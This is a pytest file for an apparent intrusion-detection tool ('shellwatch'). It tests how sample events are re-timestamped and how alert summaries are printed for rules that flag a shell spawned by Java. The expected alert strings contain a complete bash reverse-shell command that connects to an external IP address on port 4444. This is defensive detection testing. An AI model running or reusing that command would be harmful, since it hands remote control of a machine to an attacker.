"""``shellwatch demo``'s pure parts: the sample moved to the present, the summary line printed above each alert."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from shellwatch.core.pipeline import Pipeline, PipelineConfig
from shellwatch.ecs.timestamps import parse_timestamp_ms
from shellwatch.samples.build import sample_documents
from shellwatch.tools.demo import alert_summary, restamp
from tests.shared import RULE, SHELL_RULE

SEQUENCE_RULE = "potential-reverse-shell-via-java"
SHELL_RULE_ID = "shell-spawned-by-java"
NOW_MS = 1_800_000_000_123  # 2027-01-15T08:00:00.123Z


def stamps(docs: list[dict[str, Any]], field: str = "@timestamp") -> list[int]:
    return [parse_timestamp_ms(doc[field] if field == "@timestamp" else doc["event"][field]) for doc in docs]


def alerts_of(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    pipeline = Pipeline(RULE, PipelineConfig(), SHELL_RULE)
    alerts = [a for doc in docs for a in pipeline.process(orjson.dumps(doc), NOW_MS).alerts]
    return alerts + pipeline.flush(NOW_MS)


def test_restamp_moves_the_newest_event_to_now_and_keeps_every_gap() -> None:
    sample = sample_documents()
    moved = restamp(sample, NOW_MS)
    before, after = stamps(sample), stamps(moved)
    assert max(after) == NOW_MS
    offset = after[0] - before[0]
    assert [b + offset for b in before] == after
    assert [b + offset for b in stamps(sample, "created")] == stamps(moved, "created")


def test_restamp_changes_nothing_else_and_leaves_its_input_alone() -> None:
    sample = sample_documents()
    pristine = orjson.dumps(sample)
    moved = restamp(sample, NOW_MS)
    assert orjson.dumps(sample) == pristine
    # Moved back to where it was, the sample serialises to the very bytes of the bundled file.
    assert orjson.dumps(restamp(moved, max(stamps(sample)))) == pristine
    for old, new in zip(sample, moved, strict=True):
        assert list(new) == list(old)
        assert {**new, "@timestamp": None, "event": {**new["event"], "created": None}} == {
            **old,
            "@timestamp": None,
            "event": {**old["event"], "created": None},
        }


def test_restamped_sample_raises_the_same_alerts() -> None:
    sample = sample_documents()
    moved = restamp(sample, NOW_MS)

    def essence(alerts: list[dict[str, Any]]) -> list[tuple[str, str, Any]]:
        return [(a["rule"]["id"], a["event"]["id"], a["detection"]["explanation"].get("gap_ms")) for a in alerts]

    old, new = alerts_of(sample), alerts_of(moved)
    assert essence(new) == essence(old)
    assert len(new) == 2
    assert all(0 <= a["detection"]["latency_ms"] < 60_000 for a in new)


def test_restamp_keeps_each_timestamp_form() -> None:
    docs: list[dict[str, Any]] = [
        {"@timestamp": "2024-11-24T00:00:00.145Z", "event": {"created": "2024-11-24T00:00:00.145Z", "id": "a"}},
        {"@timestamp": 1_732_406_400_150, "event": {"created": 1_732_406_400_150}},
        {"@timestamp": "1732406400200"},
        {"@timestamp": "2024-11-24T01:00:00.300+01:00"},  # 00:00:00.300Z, the newest
        {"message": "no timestamp"},
    ]
    moved = restamp(docs, NOW_MS)
    offset = NOW_MS - 1_732_406_400_300
    assert moved == [
        {"@timestamp": "2027-01-15T07:59:59.968Z", "event": {"created": "2027-01-15T07:59:59.968Z", "id": "a"}},
        {"@timestamp": 1_732_406_400_150 + offset, "event": {"created": 1_732_406_400_150 + offset}},
        {"@timestamp": str(1_732_406_400_200 + offset)},
        {"@timestamp": "2027-01-15T08:00:00.123Z"},
        {"message": "no timestamp"},
    ]
    assert [parse_timestamp_ms(d["@timestamp"]) for d in moved[:4]] == [
        NOW_MS - 155,
        NOW_MS - 150,
        NOW_MS - 100,
        NOW_MS,
    ]


@pytest.fixture(scope="module")
def sample_alerts() -> dict[str, dict[str, Any]]:
    """The sample's alerts by rule id, as the demo reads them back (plain JSON, events included)."""
    pipeline = Pipeline(RULE, PipelineConfig(), SHELL_RULE)
    alerts = [a for doc in sample_documents() for a in pipeline.process(orjson.dumps(doc), 0).alerts]
    alerts += pipeline.flush(0)
    decoded = [orjson.loads(orjson.dumps(alert)) for alert in alerts]
    by_rule = {alert["rule"]["id"]: alert for alert in decoded}
    assert sorted(by_rule) == [SEQUENCE_RULE, SHELL_RULE_ID]
    return by_rule


def test_sequence_alert_summary_shows_the_gap(sample_alerts: dict[str, dict[str, Any]]) -> None:
    assert alert_summary(sample_alerts[SEQUENCE_RULE]) == (
        "ALERT Potential Reverse Shell via Java [medium] host=srv-6f1c2a9e gap=1180ms "
        "shell='/bin/bash -c bash -i >& /dev/tcp/185.220.101.4/4444 0>&1' id=9a2864c79c630775"
    )


def test_shell_alert_summary_has_no_gap(sample_alerts: dict[str, dict[str, Any]]) -> None:
    line = alert_summary(sample_alerts[SHELL_RULE_ID])
    assert line == (
        "ALERT Shell process created by Java application [critical] host=srv-6f1c2a9e "
        "shell='/bin/bash -c bash -i >& /dev/tcp/185.220.101.4/4444 0>&1' id=3b060d373cc7f46f"
    )
    assert "gap=" not in line
